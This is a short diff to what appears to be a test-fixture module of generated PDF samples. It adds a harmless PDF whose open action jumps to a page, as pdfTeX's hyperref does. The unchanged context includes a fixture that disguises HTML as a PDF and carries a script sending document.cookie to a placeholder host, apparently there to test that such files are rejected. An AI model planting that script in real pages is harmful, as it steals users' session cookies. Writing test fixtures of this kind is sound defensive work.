@@ -136,6 +136,15 @@ def pdf_open_at_first_page() -> bytes:
     return build_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>")
 
 
+def pdf_open_with_goto() -> bytes:
+    """What pdfTeX with hyperref writes: /OpenAction to a GoTo action, in an object stream."""
+    return build_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+        extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"],
+        packed=[1, 2, 6],
+    )
+
+
 HTML_AS_PDF = (
     b"%PDF-1.4\n<html><body><script>document.location='https://jahat.example/'+document.cookie"
     b"</script></body></html>\n%%EOF\n"
